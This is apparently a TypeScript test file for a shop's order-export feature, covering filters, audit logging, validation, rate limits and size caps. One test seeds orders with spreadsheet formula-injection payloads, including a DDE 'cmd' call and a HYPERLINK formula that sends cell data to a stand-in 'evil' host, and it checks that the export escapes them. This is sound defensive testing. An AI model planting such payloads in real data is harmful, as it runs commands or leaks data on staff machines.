import { desc, eq } from "drizzle-orm";
import { expect, test } from "vitest";
import { randomLetters } from "#lib/random-letters.ts";
import { auditLog } from "#shop/audit/table.server.ts";
import { testShop, type TestShop } from "#tests/test-shop.ts";
import { readOrderFilter } from "#shop/office/order/order-list.server.ts";
import { exportColumnNames } from "./export-columns.ts";
import { orderExportForm, type OrderExport } from "./export-form.ts";
import { exportOrders } from "./export-orders.server.ts";

const acting = async (shop: TestShop) => ({
  account: await shop.has.admin(),
  address: "203.0.113.5",
});
const filterOf = (query: Record<string, string>) => readOrderFilter(new URLSearchParams(query));
const textOf = async (stream: ReadableStream<Uint8Array>) => new Response(stream).text();
const form = (overrides: Partial<OrderExport> = {}): OrderExport => ({
  reason: "매출 정리를 해요",
  format: "csv",
  columns: ["number", "ordererName"],
  numbers: [],
  ...overrides,
});
const lastExport = async ({ db }: TestShop) =>
  (
    await db
      .select()
      .from(auditLog)
      .where(eq(auditLog.action, "order.export"))
      .orderBy(desc(auditLog.id))
      .limit(1)
  )[0];

test("what the filter means is in the file, once each, newest first, over many pages, and the log says why, what and how many", async () => {
  const shop = await testShop();
  const admin = await acting(shop);
  const ordererName = `내보냄${randomLetters(6)}`;
  const lines = [{ product: await shop.has.product(), quantity: 1 }];
  const numbers: string[] = [];
  for (let at = 0; at < 5; at++)
    numbers.unshift(
      (
        await shop.has.order({
          ordererName,
          lines,
          delivery: at === 4 ? "done" : "ready",
          payment: "paid",
          placedAt: new Date(Date.now() - (5 - at) * 1000),
        })
      ).number,
    );
  const file = await textOf(
    await exportOrders(shop, filterOf({ search: ordererName }), form(), admin),
  );
  expect(file.split("\r\n")).toEqual([
    "주문번호,주문자"
      .split(",")
      .map((head) => `"${head}"`)
      .join(","),
    ...numbers.map((number) => `"${number}","${ordererName}"`),
    "",
  ]);
  expect(await lastExport(shop)).toMatchObject({
    email: admin.account.email,
    subject: "orders",
    reason: "매출 정리를 해요",
    after: {
      count: 5,
      format: "csv",
      columns: "주문번호, 주문자",
      which: `전체, '${ordererName}'`,
    },
  });
  expect(
    (
      await textOf(
        await exportOrders(shop, filterOf({ search: ordererName, tab: "ready" }), form(), admin),
      )
    ).split("\r\n"),
  ).toHaveLength(6);
  const chosen = await textOf(
    await exportOrders(shop, filterOf({}), form({ numbers: numbers.slice(1, 3) }), admin),
  );
  expect(
    chosen
      .split("\r\n")
      .slice(1, -1)
      .map((line) => line.slice(1, 18)),
  ).toEqual(numbers.slice(1, 3));
  expect(await lastExport(shop)).toMatchObject({ after: { count: 2, which: "고른 주문 2건" } });
});

test("nothing that a shopper wrote runs in a spreadsheet", async () => {
  const shop = await testShop();
  const mark = randomLetters(6);
  const evil = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "\t=1",
    "\r=1",
    '"=1"',
    `=HYPERLINK("http://evil/?"&A1,"${mark}")`,
  ];
  const title = `=1+1 ${mark}`;
  for (const words of evil)
    await shop.has.order({
      ordererName: `${words}${mark}`,
      recipientName: words,
      address: words,
      courierMemo: words,
      adminMemo: words,
      recommenderCode: words,
      lines: [{ product: await shop.has.product({ title }), quantity: 1 }],
    });
  const file = await textOf(
    await exportOrders(
      shop,
      filterOf({ search: mark }),
      form({ columns: exportColumnNames }),
      await acting(shop),
    ),
  );
  const cells = [...file.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) =>
    cell!.replaceAll('""', '"'),
  );
  expect(
    cells.filter((cell) => /^[\s"']*[=+\-@＝＋－＠]/.test(cell) && !cell.startsWith("'")),
  ).toEqual([]);
  expect(cells.filter((cell) => cell.startsWith("'"))).toHaveLength(evil.length * 7);
});

test("an Excel file comes whole, and a missing reason or column is asked for", async () => {
  const shop = await testShop();
  await shop.has.order({});
  const file = await new Response(
    await exportOrders(
      shop,
      filterOf({ tab: "all" }),
      form({ format: "xlsx", columns: exportColumnNames }),
      await acting(shop),
    ),
  ).bytes();
  expect(Buffer.from(file.subarray(0, 4)).toString("latin1")).toBe("PK\u0003\u0004");
  const wrong = (fields: Record<string, string>) =>
    orderExportForm.safeParse({
      reason: "매출 정리",
      format: "csv",
      "column.number": "on",
      ...fields,
    }).success;
  expect([
    wrong({}),
    wrong({ reason: "1234" }),
    wrong({ reason: "x".repeat(201) }),
    wrong({ format: "exe" }),
    wrong({ "column.number": "" }),
    wrong({ numbers: "x" }),
    wrong({
      numbers: Array.from(
        { length: 501 },
        (_, at) =>
          `20261121-AAAAA${[at >> 8, (at >> 4) & 15, at & 15].map((digit) => "ABCDEFGHJKMNPQRS"[digit]).join("")}`,
      ).join(","),
    }),
  ]).toEqual([true, false, false, false, false, false, false]);
});

test("downloads are limited by the hour", async () => {
  const shop = await testShop();
  const somebody = {
    account: { id: randomLetters(12), email: "x@example.com" },
    address: "203.0.113.5",
  };
  for (let tries = 0; tries < 20; tries++)
    await (await exportOrders(shop, filterOf({ search: "아무도없음" }), form(), somebody)).cancel();
  await expect(exportOrders(shop, filterOf({}), form(), somebody)).rejects.toMatchObject({
    code: "too-many-attempts",
  });
});

test("more than a file holds is refused before anything is read, and the log says nothing", async () => {
  const shop = await testShop();
  const admin = await acting(shop);
  const { mostExported } = await import("./export-columns.ts");
  const ordererName = `많음${randomLetters(6)}`;
  await shop.has.order({ ordererName });
  const was = mostExported.csv;
  mostExported.csv = 0;
  const before = (await lastExport(shop))?.id;
  await expect(
    exportOrders(shop, filterOf({ search: ordererName }), form(), admin),
  ).rejects.toMatchObject({ errors: { format: [expect.stringContaining("0건까지")] } });
  expect((await lastExport(shop))?.id).toBe(before);
  mostExported.csv = was;
});
